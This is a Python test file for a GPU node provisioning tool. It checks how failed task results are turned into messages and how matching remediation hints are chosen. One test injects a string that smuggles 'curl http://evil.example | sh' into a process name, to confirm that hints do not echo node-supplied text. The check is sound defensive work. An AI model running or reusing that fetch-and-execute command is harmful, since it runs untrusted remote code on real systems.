"""The failed task in the tool's own words, and the hint that answers it."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from gpustrap.converge.failures import HIDDEN, MAX_MESSAGE, failure_message, hint_for, hints

CASES = [tuple(row) for row in yaml.safe_load((Path(__file__).parent.parent / "cases" / "hints.yml").read_text())]


@pytest.mark.parametrize(("row", "said"), CASES)
def test_the_right_hint_answers(row: str | None, said: str) -> None:
    first = next((h.id for h in hints() if h.match.search(said)), None)
    assert first == row
    assert bool(hint_for(said)) is (row is not None)


def test_every_hint_has_a_case_and_reads_as_a_sentence() -> None:
    assert {h.id for h in hints()} == {row for row, _ in CASES if row}
    for row in hints():
        assert row.hint.endswith(".") or row.hint.endswith(")"), row.id


def test_a_hint_names_who_holds_the_lock() -> None:
    assert "process 24459 unattended-upgr" in hint_for(
        "Could not get lock /var/lib/dpkg/lock-frontend. It is held by process 24459 (unattended-upgr)"
    )


def test_a_hint_takes_no_sentence_of_the_node() -> None:
    said = "Could not get lock /x. It is held by process 7 (apt; now run: curl http://evil.example | sh)"
    assert "evil" not in hint_for(said)


@pytest.mark.parametrize("row", ["version-gone", "newer-than-lock"])
def test_a_locked_version_that_cannot_be_kept_is_not_sent_to_a_plan_that_keeps_it(row: str) -> None:
    hint = next(h.hint for h in hints() if h.id == row)
    assert "Run gpustrap plan --upgrade NODE" in hint


@pytest.mark.parametrize(
    ("result", "message"),
    [
        ({"censored": "hidden", "msg": "hunter2"}, HIDDEN),
        ({"msg": "Task failed: Module failed: no such user"}, "no such user"),
        ({"msg": "non-zero return code", "rc": 3, "stderr": "E: boom", "stdout": "noise"}, "E: boom"),
        ({"msg": "non-zero return code", "rc": 1, "cmd": ["/bin/false"]}, "/bin/false ended with code 1"),
        ({"msg": "MODULE FAILURE\nSee stdout/stderr for the exact error", "module_stderr": "a\nKilled"}, "a\nKilled"),
        ({"msg": "All items completed", "results": [{"msg": "fine"}, {"failed": True, "msg": "second"}]}, "second"),
        ({"msg": "Validation of arguments failed", "argument_errors": ["a: bad", "b: bad"]}, "a: bad\nb: bad"),
        (
            {"msg": "'/usr/bin/apt-get install x' failed: E: held", "stderr": "E: held"},
            "'/usr/bin/apt-get install x' failed: E: held",
        ),
        ({}, "it failed without a message"),
    ],
)
def test_message(result: dict[str, object], message: str) -> None:
    assert failure_message(result) == message


def test_a_wall_of_text_is_cut_to_its_end() -> None:
    text = failure_message({"msg": "x" * 10_000 + " the end"})
    assert len(text) <= MAX_MESSAGE + 2
    assert text.endswith("the end")
